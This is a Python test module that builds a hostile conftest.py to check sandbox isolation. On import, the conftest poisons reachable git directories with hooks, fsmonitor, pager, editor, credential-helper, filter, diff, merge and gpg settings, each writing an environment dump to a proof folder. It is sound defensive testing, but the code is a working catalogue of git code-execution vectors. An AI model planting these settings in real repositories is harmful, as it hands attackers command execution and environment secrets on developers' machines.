"""Git poison, as a hostile repository would plant it: every way a git directory can make the git
that later works in it start a program.

Each planted command, should it ever run, writes a proof file into PROOF (named after what was
planted, e.g. `hook-pre-push.1234`) holding its environment; a test passes when PROOF stays empty.

This file is stdlib only and self-contained on purpose: `hostile_conftest()` turns it into a
repository's `conftest.py`, which runs it inside the sandbox on every test run (so it plants into
whatever git directories the sandboxed tests can reach), and the unit tests import it and plant
directly into a checkout.
"""

from __future__ import annotations

import os
import stat
import time
from pathlib import Path

HOOKS = (
    "applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit",
    "prepare-commit-msg", "commit-msg", "post-commit", "pre-rebase", "post-checkout", "post-merge",
    "pre-push", "pre-receive", "update", "proc-receive", "post-receive", "post-update",
    "reference-transaction", "push-to-checkout", "pre-auto-gc", "post-rewrite", "sendemail-validate",
    "fsmonitor-watchman", "p4-changelist", "p4-prepare-changelist", "p4-post-changelist",
    "p4-pre-submit", "post-index-change",
)  # fmt: skip
# `process` drivers take over from clean/smudge and stop git when they fail: a driver of their own,
# for the files the tests themselves never touch
ATTRIBUTES = "* filter=evil diff=evil merge=evil\n*.txt filter=evilprocess\n"
MARKER = "selfheal-poisoned"


def _q(text: str) -> str:
    return "'" + text.replace("'", "'\"'\"'") + "'"


def proof_command(proof: Path, kind: str, then: str = "true") -> str:
    """A shell command that leaves its proof (and its environment) in `proof`, then does `then`.
    No double quote or backslash: it goes into git config values as is."""
    where = _q(str(proof))
    return f"mkdir -p {where} 2>/dev/null; env > {where}/{kind}.$$ 2>/dev/null; {then}"


def _script(path: Path, proof: Path, kind: str, then: str = "true") -> Path:
    path.write_text(f"#!/bin/sh\n{proof_command(proof, kind, then)}\n", encoding="utf-8")
    path.chmod(path.stat().st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
    return path


def _value(text: str) -> str:
    return '"' + text + '"'


def plant(git_dir: Path, proof: Path, work_tree: Path | None = None) -> None:
    """Poison one git directory (and its work tree's attributes, when given)."""
    bin_dir = git_dir / "evil-bin"
    for folder in (git_dir / "hooks", git_dir / "evil-hooks", bin_dir, git_dir / "info"):
        folder.mkdir(parents=True, exist_ok=True)
    for hook in HOOKS:
        # the default hooks folder and the one core.hooksPath names: whichever git would look in
        _script(git_dir / "hooks" / hook, proof, f"hook-{hook}")
        _script(git_dir / "evil-hooks" / hook, proof, f"hookspath-{hook}")
    gpg = _script(bin_dir / "gpg", proof, "gpg-program", "exit 1")
    askpass = _script(bin_dir / "askpass", proof, "askpass", "echo x")
    included = git_dir / "evil-included.config"
    included.write_text(
        "\n".join([
            "[credential]",
            f"\thelper = {_value('!' + proof_command(proof, 'include-credential-helper'))}",
            '[remote "origin"]',
            f"\treceivepack = {_value(proof_command(proof, 'include-receivepack', 'exit 1'))}",
            f"\tuploadpack = {_value(proof_command(proof, 'include-uploadpack', 'exit 1'))}",
            # pushes of any http(s) remote go to a local path, where receivepack above runs
            f'[url "{git_dir}/evil-remote/"]',
            "\tpushInsteadOf = http://",
            "\tpushInsteadOf = https://",
            "[core]",
            f"\tgitProxy = {_value(proof_command(proof, 'include-gitproxy', 'exit 1'))}",
            "",
        ]),
        encoding="utf-8",
    )  # fmt: skip
    lines = [
        "",
        "[core]",
        f"\thooksPath = {git_dir / 'evil-hooks'}",
        f"\tfsmonitor = {_value(proof_command(proof, 'core-fsmonitor', 'exit 1'))}",
        f"\tpager = {_value(proof_command(proof, 'core-pager', 'cat'))}",
        f"\teditor = {_value(proof_command(proof, 'core-editor'))}",
        f"\tsshCommand = {_value(proof_command(proof, 'core-sshcommand', 'exit 1'))}",
        f"\taskPass = {askpass}",
        f"\tattributesFile = {git_dir / 'info' / 'attributes'}",
        '[filter "evil"]',
        f"\tclean = {_value(proof_command(proof, 'filter-clean', 'cat'))}",
        f"\tsmudge = {_value(proof_command(proof, 'filter-smudge', 'cat'))}",
        '[filter "evilprocess"]',
        f"\tprocess = {_value(proof_command(proof, 'filter-process', 'exit 1'))}",
        '[diff "evil"]',
        f"\ttextconv = {_value(proof_command(proof, 'diff-textconv', 'cat'))}",
        f"\tcommand = {_value(proof_command(proof, 'diff-command'))}",
        '[merge "evil"]',
        f"\tdriver = {_value(proof_command(proof, 'merge-driver', 'exit 1'))}",
        "[diff]",
        f"\texternal = {_value(proof_command(proof, 'diff-external'))}",
        "[credential]",
        f"\thelper = {_value('!' + proof_command(proof, 'credential-helper'))}",
        "[gpg]",
        f"\tprogram = {gpg}",
        "[commit]",
        "\tgpgSign = true",
        "[tag]",
        "\tgpgSign = true",
        "[sequence]",
        f"\teditor = {_value(proof_command(proof, 'sequence-editor'))}",
        "[include]",
        f"\tpath = {included}",
        "",
    ]
    with (git_dir / "config").open("a", encoding="utf-8") as config:
        config.write("\n".join(lines))
    (git_dir / "info" / "attributes").write_text(ATTRIBUTES, encoding="utf-8")
    if work_tree is not None:
        (work_tree / ".gitattributes").write_text(ATTRIBUTES, encoding="utf-8")
    (git_dir / MARKER).write_text("", encoding="utf-8")


def is_git_dir(path: Path) -> bool:
    return (path / "HEAD").is_file() and (path / "objects").is_dir() and (path / "refs").is_dir()


def candidates(scope: str, budget_s: float = 3.0) -> list[Path]:
    """Git directories within reach: up from here (and beside each folder on the way), the
    runner's folders, and /tmp, searched a few levels deep for as long as the budget allows. The
    test's own folder is searched first, so the budget is not spent on the rest of a busy /tmp."""
    found: list[Path] = []
    here = Path.cwd()
    for folder in (here, *here.parents):
        found += [folder / ".git", folder / "git"]
    roots = [os.environ.get(v) for v in ("RUNNER_TEMP", "GITHUB_WORKSPACE", "HOME", "TMPDIR")]
    roots += [scope, "/tmp", "/var/tmp", str(here.parent)]
    deadline = time.monotonic() + budget_s
    for root in filter(None, roots):
        start_depth = len(Path(root).parts)
        for dirpath, dirnames, _files in os.walk(root, onerror=lambda _e: None):
            if time.monotonic() > deadline:
                break
            path = Path(dirpath)
            if path.name in (".git", "git"):
                found.append(path)
                dirnames[:] = []
                continue
            if len(path.parts) - start_depth >= 6:
                dirnames[:] = []
            dirnames[:] = [d for d in dirnames if d not in ("node_modules", "site-packages", "__pycache__")]
    return found


def run(proof: str, scope: str, planted_log: str) -> None:
    """What the hostile conftest does on import: poison every reachable git directory in `scope`.

    `scope` keeps this to the test's own folders: the machine is shared, and other people's git
    directories in /tmp are not ours to poison (a real attacker would not care)."""
    own_workspace = Path.cwd()
    if not (own_workspace / ".git").exists():
        # our own workspace too: a .git made here would be used by any git run in it
        try:
            for part in ("objects", "refs/heads"):
                (own_workspace / ".git" / part).mkdir(parents=True, exist_ok=True)
            (own_workspace / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
        except OSError:
            pass
    walked = own_workspace / ".git" / "selfheal-walked"
    if walked.exists():
        return  # once per workspace: the tests run many times during a heal
    seen: set[str] = set()
    for candidate in candidates(scope):
        try:
            real = os.path.realpath(candidate)
            if real in seen or not is_git_dir(candidate):
                continue
            seen.add(real)
            inside_scope = real == scope or real.startswith(scope.rstrip("/") + "/")
            if not (inside_scope or candidate == own_workspace / ".git"):
                continue
            if real.endswith(".git") and not real.endswith("/.git"):
                continue  # a bare remote such as the fake GitHub's: GitHub's side, out of reach for real
            if (candidate / MARKER).exists():
                continue
            # a .gitattributes in our own workspace would be a file outside the patch: the verdict
            # refuses that, and this repository wants its heal to go through
            ours = candidate == own_workspace / ".git"
            plant(candidate, Path(proof), candidate.parent if candidate.name == ".git" and not ours else None)
            try:
                with open(os.path.join(planted_log, f"planted.{os.getpid()}"), "a", encoding="utf-8") as log:
                    log.write(real + "\n")
            except OSError:
                pass
        except OSError:
            continue
    try:
        walked.write_text("", encoding="utf-8")
    except OSError:
        pass


def hostile_conftest(proof: Path, scope: Path, planted_log: Path) -> str:
    """The text of a conftest.py that runs this file's poisoning on import."""
    source = Path(__file__).read_text(encoding="utf-8")
    return f"{source}\n\nrun({str(proof)!r}, {str(scope)!r}, {str(planted_log)!r})\n"
